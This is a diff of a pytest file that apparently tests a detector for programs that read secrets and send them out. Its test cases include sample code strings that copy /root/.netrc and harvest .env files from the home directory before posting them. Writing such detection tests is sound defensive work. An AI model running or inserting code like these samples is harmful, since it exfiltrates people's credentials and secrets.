@@ -16,7 +16,10 @@ def sent(program: str) -> list[Secret]:
 @pytest.mark.parametrize(
     ("program", "kind"),
     [
-        ("shutil.copy('/root/.netrc', '/tmp/x')\nd = open('/tmp/x').read()\n" + POST.format("d"), Secret.CREDENTIALS),
+        (
+            "shutil.copy('/root/.netrc', '/tmp/x')\nd = open('/tmp/x').read()\n" + POST.format("d"),
+            Secret.CREDENTIALS,
+        ),
         (
             "out = {}\nfor r, d, fs in os.walk(home):\n  for f in fs:\n    if f.endswith('.env'):\n"
             "      out[f] = open(os.path.join(r, f)).read()\n" + POST.format("out"),
@@ -41,7 +44,7 @@ def test_what_is_read_is_known_where_it_is_sent(program: str, kind: Secret) -> N
         "load_dotenv('.env')\n" + POST.format("{'q': 1}"),
         "if name.endswith('.md'):\n  d = open(name).read()\n" + POST.format("d"),
         "t = subprocess.check_output(['gh', 'auth', 'status'])\n" + POST.format("t"),
-        "t = subprocess.check_output(['gh', 'auth', 'token'])\nrequests.get(u, headers={'Authorization': t})\n",
+        "t = subprocess.check_output(['gh', 'auth', 'token'])\nrequests.get(u, headers={'A': t})\n",
     ],
 )
 def test_what_is_no_secret_is_not_followed(program: str) -> None:
